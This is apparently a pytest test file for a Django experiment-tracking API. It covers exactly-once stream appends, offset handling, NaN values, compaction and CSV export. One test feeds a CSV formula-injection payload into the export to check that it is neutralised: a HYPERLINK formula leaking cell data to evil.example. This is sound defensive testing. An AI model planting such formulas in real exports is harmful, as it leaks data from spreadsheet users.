"""Appending to streams: exactly once, whatever the retries."""

from __future__ import annotations

import math
from typing import Any

import pytest

from tests.factories import World, world_create

pytestmark = pytest.mark.django_db
RUN = "/api/v1/projects/acme/secret/runs/r1"


@pytest.fixture
def world() -> World:
    w = world_create()
    assert w.member.client().put(RUN, {"config": {"lr": 0.1}}, format="json").status_code == 201
    return w


def rows(start: int, n: int) -> list[dict[str, Any]]:
    return [{"step": s, "time": 1000.0 + s, "data": {"loss": 1.0 / (s + 1), "acc": s / 100}} for s in range(start, start + n)]


def append(w: World, offset: int, records: list[dict[str, Any]], stream: str = "history") -> Any:
    return w.member.client().post(f"{RUN}/streams/{stream}", {"offset": offset, "records": records}, format="json")


def exported(w: World, keys: str = "loss") -> list[dict[str, Any]]:
    import json

    response = w.member.client().get(f"{RUN}/history/export", {"keys": keys})
    return [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]


def test_it_stores_a_batch_sent_twice_once(world: World) -> None:
    first = append(world, 0, rows(0, 10))
    assert first.status_code == 200 and first.json() == {"next_offset": 10, "stored": 10}
    again = append(world, 0, rows(0, 10))
    assert again.status_code == 200 and again.json() == {"next_offset": 10, "stored": 0}
    assert [r["step"] for r in exported(world)] == list(range(10))


def test_it_refuses_a_gap_with_the_offset_it_expects(world: World) -> None:
    append(world, 0, rows(0, 10))
    gap = append(world, 15, rows(15, 5))
    assert gap.status_code == 409
    assert gap.json()["expected_offset"] == 10
    assert [r["step"] for r in exported(world)] == list(range(10))


def test_it_keeps_only_the_new_tail_of_an_overlapping_batch(world: World) -> None:
    append(world, 0, rows(0, 10))
    overlap = append(world, 5, rows(5, 10))
    assert overlap.json() == {"next_offset": 15, "stored": 5}
    assert [r["step"] for r in exported(world)] == list(range(15))


def test_the_run_says_where_each_stream_continues(world: World) -> None:
    append(world, 0, rows(0, 7))
    append(world, 0, [{"time": 1.0, "data": {"cpu": 5}}], stream="system")
    append(world, 0, [{"time": 1.0, "stream": "stdout", "line": "hi"}], stream="console")
    run = world.member.client().get(RUN).json()
    assert run["streams"] == {"history": 7, "system": 1, "console": 1}
    assert run["last_step"] == 6
    assert run["summary"]["loss"] == pytest.approx(1 / 7)
    resumed = world.member.client().put(RUN, {"resume": "must"}, format="json")
    assert resumed.status_code == 200 and resumed.json()["streams"]["history"] == 7


def test_nan_and_infinities_round_trip(world: World) -> None:
    import json

    body = '{"offset": 0, "records": [{"step": 0, "time": 1.0, "data": {"a": NaN, "b": Infinity, "c": -Infinity}}]}'
    response = world.member.client().post(f"{RUN}/streams/history", body, content_type="application/json")
    assert response.status_code == 200, response.content
    row = json.loads(b"".join(world.member.client().get(f"{RUN}/history/export", {"keys": "a,b,c"}).streaming_content))
    assert math.isnan(row["a"]) and row["b"] == math.inf and row["c"] == -math.inf
    run = json.loads(world.member.client().get(RUN).content)
    assert math.isnan(run["summary"]["a"]) and run["summary"]["b"] == math.inf
    sampled = json.loads(world.member.client().get(f"{RUN}/history", {"keys": "b"}).content)
    assert sampled["series"]["b"]["max"] == [math.inf]


def test_a_summary_key_the_client_sets_is_not_overwritten(world: World) -> None:
    world.member.client().patch(RUN, {"summary": {"loss": 0.001}}, format="json")
    append(world, 0, rows(0, 5))
    assert world.member.client().get(RUN).json()["summary"]["loss"] == 0.001


def test_console_lines_read_back_from_any_offset(world: World) -> None:
    lines = [{"time": float(i), "stream": "stdout", "line": f"line {i}"} for i in range(25)]
    append(world, 0, lines[:10], stream="console")
    append(world, 10, lines[10:], stream="console")
    got = world.member.client().get(f"{RUN}/console", {"offset": 8, "limit": 5}).json()
    assert [x["line"] for x in got["lines"]] == [f"line {i}" for i in range(8, 13)]
    assert got["next_offset"] == 13


def test_finish_sets_the_state_from_the_exit_code(world: World) -> None:
    assert world.member.client().post(f"{RUN}/finish", {"exit_code": 3}, format="json").json()["state"] == "failed"
    assert world.member.client().post(f"{RUN}/finish", {"exit_code": 0}, format="json").json()["state"] == "finished"
    never = world.member.client().put(RUN, {"resume": "never"}, format="json")
    assert never.status_code == 409


def test_compaction_merges_small_chunks_and_keeps_every_row(world: World) -> None:
    from apps.runs.history import run_history_compact
    from apps.runs.models import HistoryChunk

    for i in range(20):
        append(world, i * 5, rows(i * 5, 5))
    assert HistoryChunk.objects.filter(stream=0).count() == 20
    before = exported(world, "loss,acc")
    assert run_history_compact(run_pk=HistoryChunk.objects.first().run_id) == 19  # type: ignore[union-attr]
    assert HistoryChunk.objects.filter(stream=0).count() == 1
    assert exported(world, "loss,acc") == before


def test_export_as_csv(world: World) -> None:
    import json

    records = [{"step": 0, "time": 1.0, "data": {"loss": 0.5, "acc": 1}}, {"step": 1, "time": 2.0, "data": {"loss": float("nan")}}]
    body = json.dumps({"offset": 0, "records": records})  # the stdlib writes NaN as the protocol wants
    world.member.client().post(f"{RUN}/streams/history", body, content_type="application/json")
    response = world.member.client().get(f"{RUN}/history/export", {"keys": "loss,acc", "format": "csv"})
    assert response.status_code == 200
    assert b"".join(response.streaming_content).decode().splitlines() == ["step,time,loss,acc", "0,1.0,0.5,1", "1,2.0,NaN,"]


def test_the_csv_export_neutralises_formulas_in_values_and_keys(world: World) -> None:
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    values = {"note": formula, "plus": "+1+2", "at": "@SUM(A1)", "minus": "-2+3", "tab": "\t=1", "ok": "fine"}
    assert append(world, 0, [{"step": 0, "time": 1.0, "data": {**values, "=evil()": 1, "loss": -0.5}}]).status_code == 200
    keys = ",".join([*values, "=evil()", "loss"])
    response = world.member.client().get(f"{RUN}/history/export", {"keys": keys, "format": "csv"})
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = dict(zip(header, row))
    assert header[-2] == "'=evil()"
    assert cells["note"] == "'" + formula
    assert (cells["plus"], cells["at"], cells["minus"], cells["tab"]) == ("'+1+2", "'@SUM(A1)", "'-2+3", "'\t=1")
    assert cells["ok"] == "fine" and cells["loss"] == "-0.5"  # numbers stay numbers


def test_a_step_stored_twice_reads_back_as_the_value_logged_last_not_a_mean(world: World) -> None:
    # An old agent (or a shared run) logs x = 5 at step 5, then step 9, then x = 99 at step 5.
    records = [{"step": s, "time": 1000.0 + i, "data": {"x": x}} for i, (s, x) in enumerate([(5, 5), (9, 9), (5, 99)])]
    assert append(world, 0, records).status_code == 200
    series = world.member.client().get(f"{RUN}/history", {"keys": "x"}).json()["series"]["x"]
    assert series["steps"] == [5, 9] and series["values"] == [99, 9]
    assert series["min"][0] == 5 and series["max"][0] == 99
